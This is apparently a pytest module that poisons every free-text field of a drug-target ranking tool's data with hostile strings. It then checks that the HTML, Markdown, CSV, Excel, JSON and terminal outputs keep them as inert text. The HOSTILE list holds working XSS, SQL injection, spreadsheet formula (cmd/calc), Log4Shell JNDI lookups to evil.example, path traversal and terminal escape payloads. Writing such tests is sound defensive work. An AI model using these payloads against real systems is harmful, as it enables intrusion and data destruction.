"""A catalogue every text of which is hostile: ranked, and looked at in every form that comes out."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path

import duckdb
import openpyxl
import pytest

from prioritize import asking, combining, delimited, explaining, pipeline
from prioritize.catalogue import FILES, HGNC_ID, CuratedFile, read_catalogue
from prioritize.combinations.choosing import Filter
from prioritize.commands.options import show_notes
from prioritize.pipeline import Places
from prioritize.ranking import rank
from prioritize.snapshotting import write_table
from prioritize.store import database
from prioritize.store.snapshot import file_sha256, read_manifest, write_manifest
from tests.conftest import Record
from tests.report.conftest import read
from tests.report.test_html import harmful

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style></script><svg onload=alert(1)>",
    '=HYPERLINK("https://evil.example")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "'); DROP TABLE raw.target, --",
    "{{7*7}}{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "\x1b[31mred\x1b]0,title\x07",
    "[x](javascript:alert(1)) | b",
    "\u202etxt.exe",
    "a\n| --- |\n# head",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi xlink:href=data:text/html,x>",
    "<!--><img src=x onerror=alert(1)>-->",
    "&ltscript&gtalert(1)&lt/script&gt",
    "&#x3cscript&#x3e",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "</title></textarea></script><script>alert(1)</script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x.js",
    "![x](https://evil.example/x.png)",
    "[x]: https://evil.example",
    "<https://evil.example>",
    "```\n# out\n```",
    "`x` **b** _i_ ~~s~~ \\",
    "=cmd|'/C calc'!A0",
    "x\t=1+1",
    "\uff1d1+1",
    "' OR '1'='1",
    '" OR ""="',
    "1, DELETE FROM raw.target, --",
    "$target $model $$x$$",
    "%s %n {0} {x.__class__}",
    "../../etc/passwd",
    "\x08\x7f\x9b31m",
    "\u2066a\u2069\u200b\ufeff",
    "x" * 5_000,
)
"""Without a semicolon, which parts the cells of lists."""
OF_SOURCES = {
    "approval": ("drug", "indication"),
    "civic_evidence": ("molecular_profile", "disease", "therapies", "citation"),
    "drug_target": ("drug", "action_term", "reference"),
    "gene": ("name",),
    "gene_trait": ("trait",),
    "ligand_receptor": ("ligand_complex", "receptor_complex", "classification"),
    "pathway": ("name",),
    "programme": ("indication",),
    "safety_event": ("event", "biological_system", "reference"),
    "trial": ("conditions", "why_stopped"),
}
"""Tables of the snapshot, and their columns that hold what a source wrote in its own words."""
FIXED = frozenset(
    {"year", "weight", "nct", "apart", "uniprot_id", "entrez_id", "ensembl_gene_id"}
    | {"effects", "effect", "kind", "setting", "class", "organ_class", "severity", "action", "licence"}
)
"""Columns of figures, of ids whose form is checked, and of words that sql/raw lists."""
ACTING = frozenset({"base", "embed", "form", "frame", "iframe", "img", "math", "object", "video"})
"""Tags that no page of ours has, beside those that its policy lets act."""
CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@dataclass(frozen=True)
class Poisoned:
    """A catalogue of hostile texts, its store and its report; how many fields are hostile, and how often."""

    where: Places
    report: Path
    columns: tuple[str, ...]
    cells: int


def free(file: CuratedFile) -> Iterator[str]:
    """Columns of a file that may hold any text."""
    for name in file.columns:
        if (
            name not in file.key
            and name not in file.words
            and name not in FIXED
            and not name.endswith(("_id", "_ids", "basis"))
        ):
            yield name


def poisoned_snapshot(folder: Path) -> tuple[list[str], int]:
    """The embedded snapshot, every text of a source hostile: the columns, and how many cells."""
    shutil.copytree(pipeline.places().snapshot, folder)
    manifest = read_manifest(folder)
    columns, cells, entries = [], 0, []
    with duckdb.connect() as con:
        con.execute(
            "CREATE TABLE hostile AS SELECT unnest($1) AS text, generate_subscripts($1, 1) - 1 AS place", [HOSTILE]
        )
        for number, entry in enumerate(manifest.tables):
            path = folder / entry.file
            texts = OF_SOURCES.get(entry.table, ())
            new = ", ".join(
                f"CASE WHEN \"{name}\" <> '' THEN (SELECT text FROM hostile WHERE place = (row + {number + i}) % "
                f'{len(HOSTILE)}) || \' \' || "{name}" ELSE "{name}" END AS "{name}"'
                for i, name in enumerate(texts)
            )
            if texts:
                con.execute(
                    f"CREATE OR REPLACE TABLE it AS SELECT * EXCLUDE (row, file_row_number) REPLACE ({new}) "
                    "FROM (SELECT *, file_row_number AS row FROM read_parquet($1, file_row_number = true)) "
                    "ORDER BY row",
                    [str(path)],
                )
                write_table(con, "it", path)
                columns += [f"{entry.file} {name}" for name in texts]
                cells += entry.rows * len(texts)
            said = {
                name: f"{HOSTILE[(number + i) % len(HOSTILE)]} {getattr(entry, name)}"
                for i, name in enumerate(("title", "release", "url", "obtained", "licence", "note"))
            }
            columns += [f"MANIFEST.toml {entry.table} {entry.source} {name}" for name in said]
            cells += len(said)
            entries.append(replace(entry, **said, sha256=file_sha256(path)))
    write_manifest(folder, replace(manifest, tables=tuple(entries)))
    return columns, cells


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Poisoned:
    """Made once for all that is looked at."""
    home = tmp_path_factory.mktemp("poisoned")
    data = home / "data"
    shutil.copytree(pipeline.places().data, data, ignore=shutil.ignore_patterns("snapshot"))
    columns, cells = [], 0
    for number, file in enumerate(FILES):
        path = data / file.name
        table = delimited.read(path)
        rows = [list(row) for row in table.rows]
        for name in free(file):
            place = table.columns.index(name)
            columns.append(f"{file.name} {name}")
            for line, row in enumerate(rows):
                if row[place] and not HGNC_ID.fullmatch(row[place]):
                    cells += 1
                    row[place] = f"{HOSTILE[(line + place + number) % len(HOSTILE)]} {row[place]}"
        delimited.write(path, table.columns, [[delimited.guarded(cell) for cell in row] for row in rows])
    told, words = poisoned_snapshot(home / "snapshot")
    columns += told
    cells += words
    where = pipeline.places(data=data, snapshot=home / "snapshot", store=home / "store.duckdb")
    done = rank(where, "default", home / "report", excel=True)
    return Poisoned(where, done.folder, tuple(columns), cells)


pytestmark = pytest.mark.slow


def test_every_field_is_hostile_and_the_store_holds_it_as_it_was_written(poisoned: Poisoned, record: Record) -> None:
    assert len(poisoned.columns) > 50
    tables = read_catalogue(poisoned.where.data, pipeline.places().data)
    with database.reading(poisoned.where.store) as con:
        held = con.execute("SELECT target_id, role, axis FROM raw.target ORDER BY target_id").fetchall()
        for table, names in OF_SOURCES.items():
            both = " OR ".join(f"contains({name}, '<script>alert(1)</script>')" for name in names)
            assert con.execute(f"SELECT count(*) FROM raw.{table} WHERE {both}").fetchall()[0][0] > 0, table
        text = HOSTILE[7]
        assert con.execute("SELECT count(*) FROM raw.target WHERE axis = $1", [text]).fetchall() == [(0,)]
    wanted = sorted((row["target_id"], row["role"] or None, row["axis"] or None) for row in tables["target"].records())
    assert held == wanted
    assert sum(any(sign in str(row) for sign in ("DROP TABLE", "<script>")) for row in held) > 2
    record(
        "A hostile text in a field of the catalogue or of a source (markup, formula, SQL, template, escapes) comes out "
        "as text in HTML, Markdown, CSV, Excel, Parquet, JSON and terminal",
        tried=poisoned.cells,
        kept=poisoned.cells,
        control=f"{len(HOSTILE)} texts in {len(poisoned.columns)} columns",
    )


def test_nothing_in_the_page_can_act(poisoned: Poisoned) -> None:
    text = (poisoned.report / "index.html").read_text(encoding="utf-8")
    page = read(text)
    found = list(harmful(page))  # of tags, those too that the page of hand-made data has no use for
    assert [one for one in found if one in ACTING or not one.isalnum()] == []
    assert "default-src 'none'" in text
    assert "<script>alert" not in text
    assert not CONTROLS.search(text)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "{{7*7}}" in text


def test_markdown_shows_markup_as_text_and_its_tables_hold(poisoned: Poisoned) -> None:
    text = (poisoned.report / "report.md").read_text(encoding="utf-8")
    bare = re.sub(r"\\.", "", re.sub(r"`[^`\n]*`", "", text))
    assert not re.search(r"<(script|img|svg|iframe|/)", bare)
    assert not re.search(r"\]\((?!https://|#)", bare)
    assert not re.search(r"evil\.example/?\)", bare)
    assert not CONTROLS.search(text)
    for table in re.findall(r"(?:^\|.*\n)+", bare, re.MULTILINE):
        assert len({line.count("|") for line in table.splitlines()}) == 1, table[:300]


def test_no_cell_of_a_table_is_a_formula_and_no_row_is_broken(poisoned: Poisoned) -> None:
    for name in ("targets.csv", "combinations.csv"):
        rows = list(csv.reader(io.StringIO((poisoned.report / name).read_text(encoding="utf-8"))))
        assert len({len(row) for row in rows}) == 1
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "@", "\t", "\r", "+")), cell
                assert not cell.startswith("-") or re.fullmatch(r"-[\d.]+", cell), cell
                assert not CONTROLS.search(cell), cell


def test_no_cell_of_the_workbook_is_a_formula(poisoned: Poisoned) -> None:
    book = openpyxl.load_workbook(poisoned.report / "report.xlsx")
    kinds = Counter(cell.data_type for page in book for row in page for cell in row)
    assert set(kinds) <= {"s", "n", "b"}
    assert not [cell.value for page in book for row in page for cell in row if cell.hyperlink]


def test_json_and_parquet_give_the_texts_back(poisoned: Poisoned) -> None:
    content = json.loads((poisoned.report / "report.json").read_text(encoding="utf-8"))
    texts = json.dumps(content, ensure_ascii=False)
    assert [text for text in HOSTILE if json.dumps(text, ensure_ascii=False)[1:-1] not in texts] == []
    with duckdb.connect() as con:
        rows = con.execute("SELECT * FROM read_parquet($1)", [str(poisoned.report / "targets.parquet")]).fetchall()
    assert len(rows) == content["n_targets"]


def test_no_terminal_obeys_what_is_printed(poisoned: Poisoned, capsys: pytest.CaptureFixture[str]) -> None:
    where = poisoned.where
    found = combining.combine(where, combining.Wanted("pairs", 20, Filter(), 0.0, 0), "default")
    said = "\n".join(
        [
            *(line for name in ("CD47", "CD47+PDCD1") for line in explaining.as_text(explaining.explain(where, name))),
            asking.write_answer(asking.query(where, "SELECT * FROM raw.target", {}), "table", None),
            asking.write_answer(asking.query(where, "SELECT * FROM raw.combination", {}), "table", None),
            asking.write_answer(found.short, "table", None),
        ]
    )
    show_notes([*HOSTILE])
    said += capsys.readouterr().err
    assert "\\x1b[31mred" in said
    assert CONTROLS.findall(said) == []


def test_an_answer_as_csv_holds_no_formula_and_sql_is_only_text(poisoned: Poisoned) -> None:
    answer = asking.query(poisoned.where, "SELECT * FROM raw.combination", {})
    rows = list(csv.reader(io.StringIO(asking.write_answer(answer, "csv", None))))
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "@", "+", "-"))]
    found = asking.query(poisoned.where, "SELECT count(*) FROM raw.target WHERE axis LIKE $x", {"x": f"{HOSTILE[7]}%"})
    assert found.rows[0][0] >= 0
    assert asking.query(poisoned.where, "SELECT count(*) FROM raw.target", {}).rows[0][0] > 50
